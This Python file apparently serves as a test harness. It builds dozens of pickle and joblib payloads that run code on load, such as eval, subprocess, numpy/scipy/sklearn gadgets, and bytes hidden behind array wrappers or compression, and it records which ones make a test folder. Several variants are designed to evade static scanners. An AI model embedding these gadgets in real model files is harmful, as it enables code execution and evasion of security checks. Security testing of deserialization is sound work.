"""Pickles that execute when they are loaded, each in another way; all they do is make one folder.

``python gadgets.py FOLDER`` loads each as its loader does, in this process, and prints the names of those that made it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

PROTO = b"\x80\x04"
RIDGE = ("sklearn.linear_model._ridge", "Ridge")


class Reduced:
    """An object that is saved as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def text(value: str) -> bytes:
    """Push a text."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def name(module: str, path: str) -> bytes:
    """Push a global."""
    return text(module) + text(path) + b"\x93"


def call(module: str, path: str, *arguments: bytes) -> bytes:
    """Push the result of a call."""
    return name(module, path) + b"(" + b"".join(arguments) + b"tR"


def made(module: str, path: str) -> bytes:
    """Push an instance made without ``__init__``."""
    return name(module, path) + b")\x81"


def wrapper(shape: int, code: str, *, is_aligned: bool) -> bytes:
    """Push what joblib writes in front of an array of one dimension; its bytes follow."""
    flags = {"O": b"K\x3f"}.get(code, b"K\x00")
    size = b"J\xff\xff\xff\xff"
    dtype = call("numpy", "dtype", text(code), b"\x89", b"\x88")
    dtype += b"(K\x03" + text("|") + b"NNN" + size + size + flags + b"tb"
    items = text("subclass") + name("numpy", "ndarray") + text("shape") + b"K" + bytes([shape]) + b"\x85"
    items += text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x88"
    items += text("numpy_array_alignment_bytes") + b"K\x10" if is_aligned else b""
    return made("joblib.numpy_pickle", "NumpyArrayWrapper") + b"}(" + items + b"ub"


def plain(folder: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield calls that any unpickler makes."""
    statement, make = f"__import__('os').mkdir({folder!r})", text(folder)
    quoted = f"'{folder}'".encode()
    for protocol in range(6):
        yield f"protocol {protocol}", "pickle", pickle.dumps([1, Reduced(os.mkdir, folder)], protocol)
    yield "class opcode", "pickle", b"(S" + quoted + b"\niposix\nmkdir\n."
    yield "object opcode", "pickle", b"(cposix\nmkdir\nS" + quoted + b"\no."
    yield "result popped", "pickle", PROTO + call("os", "mkdir", make) + b"0N."
    yield "result popped to mark", "pickle", PROTO + b"(" + call("os", "mkdir", make) + b"1N."
    yield "no stop", "pickle", PROTO + call("os", "mkdir", make)
    yield "second pickle", "stream", pickle.dumps(3) + pickle.dumps(Reduced(os.mkdir, folder))
    yield "second pickle of protocol 0", "stream", pickle.dumps(3) + pickle.dumps(Reduced(os.mkdir, folder), 0)
    yield "memo", "pickle", PROTO + name("os", "mkdir") + b"q\x070h\x07" + make + b"\x85R."
    index = b"0" * 60 + b"7\n"
    yield "long memo index", "pickle", PROTO + name("os", "mkdir") + b"p" + index + b"0g7\n" + make + b"\x85R."
    yield "duplicate", "pickle", PROTO + name("os", "mkdir") + b"2" + make + b"\x85R."
    yield (
        "old name",
        "pickle",
        b"\x80\x02c__builtin__\neval\n(" + b"X" + struct.pack("<I", len(statement)) + (statement.encode() + b"tR."),
    )
    yield "old name on the stack", "pickle", text("__builtin__") + text("eval") + b"\x93" + text(statement) + b"\x85R."
    yield "escaped name", "pickle", b"V\\u006fs\nVm\\u006bdir\n\x93V" + folder.encode() + b"\n\x85R."
    yield "nested frames", "pickle", PROTO + (b"\x95" + bytes(8)) * 3 + call("os", "mkdir", make) + b"."
    yield (
        "process",
        "pickle",
        PROTO + call("subprocess", "check_call", b"]" + text("mkdir") + b"a" + make + b"a") + b".",
    )
    yield "partial", "pickle", PROTO + call("functools", "partial", name("os", "mkdir"), make) + b")R."
    yield (
        "attribute",
        "pickle",
        PROTO
        + call("builtins", "getattr", call("importlib", "import_module", text("os")), text("mkdir"))
        + make
        + b"\x85R.",
    )
    yield (
        "method caller",
        "pickle",
        PROTO
        + call("operator", "methodcaller", text("mkdir"), make)
        + call("importlib", "import_module", text("os"))
        + b"\x85R.",
    )
    yield (
        "timed statement",
        "pickle",
        PROTO + call("timeit", "timeit", text(statement), text("pass"), name("time", "time"), b"K\x01") + b".",
    )
    yield "profiled", "pickle", PROTO + call("cProfile", "run", text(statement), b"N") + b"."
    yield (
        "any map",
        "pickle",
        PROTO + call("builtins", "list", call("builtins", "map", name("os", "mkdir"), b"]" + make + b"a")) + b".",
    )


def frameworks(folder: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield calls by way of what models are made of."""
    statement, make, mkdir = f"__import__('os').mkdir({folder!r})", text(folder), name("os", "mkdir")
    yield "through a module", "pickle", PROTO + call("joblib.numpy_pickle", "os.mkdir", make) + b"."
    yield "evaluator of numpy", "pickle", PROTO + call("numpy.f2py.crackfortran", "myeval", text(statement)) + b"."
    template = f"{statement}\ndef _parse_args(self): pass\n_parse_args_stats = _parse_args_rvs = _parse_args\n"
    state = text("_parse_arg_template") + text(template)
    yield (
        "template of scipy",
        "pickle",
        PROTO + made("scipy.stats._continuous_distns", "norm_gen") + b"}" + state + b"sb.",
    )
    special = b"}" + text("__setstate__") + mkdir + b"s"
    yield "own method", "pickle", PROTO + made(*RIDGE) + special + b"b" + make + b"b."
    escaped = b"V" + b"".join(b"\\U%08x" % code for code in b"__setstate__") + b"\n"
    yield "own method, escaped", "pickle", PROTO + made(*RIDGE) + b"}" + escaped + mkdir + b"sb" + make + b"b."
    kernel = ("sklearn.gaussian_process.kernels", "RBF")
    yield (
        "method of the class",
        "pickle",
        PROTO + name(*kernel) + b"N" + special + b"\x86b0" + made(*kernel) + make + b"b.",
    )
    result = ("scipy.optimize._optimize", "OptimizeResult")
    yield "item as method", "pickle", PROTO + made(*result) + text("__setstate__") + mkdir + b"s" + make + b"b."
    rebuilt = call("copyreg", "_reconstructor", name(*result), name("builtins", "dict"), special)
    yield "rebuilt with a method", "pickle", PROTO + rebuilt + make + b"b."
    pairs = b"]" + text("__setstate__") + mkdir + b"\x86a"
    listed = call("copyreg", "_reconstructor", name(*result), name("builtins", "dict"), pairs)
    yield "rebuilt from pairs", "pickle", PROTO + listed + make + b"b."
    transformer = made("sklearn.preprocessing._function_transformer", "FunctionTransformer")
    items = {"func": mkdir, "validate": b"\x89", "kw_args": b"N", "check_inverse": b"\x89", "feature_names_out": b"N"}
    yield (
        "function that transforms",
        "transform",
        PROTO + transformer + b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"ub.",
    )


def arrays(folder: str) -> Iterator[tuple[str, str, bytes]]:
    """Yield calls around and inside the arrays that joblib puts between the opcodes."""
    execute = call("os", "mkdir", text(folder))
    aligned = wrapper(16, "u1", is_aligned=True)
    after = PROTO + b"(" + aligned + b"\x00" + bytes(16) + execute + b"t."
    yield "behind an array", "joblib", after
    inner = pickle.dumps(Reduced(os.mkdir, folder))
    yield "array of objects", "joblib", PROTO + wrapper(1, "O", is_aligned=False) + inner + b"."
    # the frame goes on behind the array, whose bytes joblib reads from behind the frame
    body = aligned + execute + b"0."
    yield "frame behind an array", "joblib", PROTO + b"\x95" + struct.pack("<Q", len(body)) + body + b"\x00" + bytes(16)
    # the second state leaves out the alignment, which the wrapper keeps from the first
    hidden = b"C" + bytes([66 + len(execute) + 1]) + bytes(66) + execute + b"0"
    again = wrapper(0, "u1", is_aligned=False).removeprefix(made("joblib.numpy_pickle", "NumpyArrayWrapper"))
    first = (
        made("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b"\x94"
        + wrapper(0, "u1", is_aligned=True).removeprefix(made("joblib.numpy_pickle", "NumpyArrayWrapper"))
    )
    yield "state of an array set twice", "joblib", PROTO + first + b"\x00" + b"0h\x00" + again + hidden + b"."
    # numpy takes a class for the dtype of objects
    as_class = wrapper(1, "u1", is_aligned=False).replace(
        call("numpy", "dtype", text("u1"), b"\x89", b"\x88")
        + b"(K\x03"
        + text("|")
        + b"NNN"
        + b"J\xff\xff\xff\xff" * 2
        + b"K\x00tb",
        call("numpy", "dtype", name("builtins", "object"), b"\x89", b"\x88"),
    )
    yield "class for a dtype", "joblib", PROTO + as_class + inner + b"."
    noise = b"N0" * 3000
    misleading = wrapper(0, "u1", is_aligned=False)
    payload = noise + execute + b"."
    sized = misleading.replace(
        text("shape") + b"K\x00\x85", text("shape") + b"M" + struct.pack("<H", len(payload)) + b"\x85"
    )
    yield "numbers that are opcodes", "pickle", PROTO + sized + payload + b"."
    for codec, pack in (
        ("zlib", zlib.compress),
        ("gzip", gzip.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("lzma", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)),
    ):
        yield f"compressed with {codec}", "joblib", pack(after)


def gadgets(folder: str) -> list[tuple[str, str, bytes]]:
    """Return name, loader and bytes of each."""
    return [*plain(folder), *frameworks(folder), *arrays(folder)]


def load(loader: str, data: bytes, folder: str) -> None:
    """Load a pickle as its users would."""
    if loader == "joblib":
        import joblib

        joblib.load(io.BytesIO(data))
    elif loader == "stream":
        stream = io.BytesIO(data)
        while stream.tell() < len(data):
            pickle.load(stream)
    else:
        value = pickle.loads(data)
        if loader == "transform":
            value.transform(folder)


def main(folder: str) -> None:
    """Load all of them and say which ran."""
    ran = []
    for label, loader, data in gadgets(folder):
        try:
            load(loader, data, folder)
        except BaseException as error:
            sys.stderr.write(f"{label}: {error!r}\n")
        if Path(folder).exists():
            ran.append(label)
            Path(folder).rmdir()
    sys.stdout.write("\n" + json.dumps(ran))


if __name__ == "__main__":
    main(sys.argv[1])
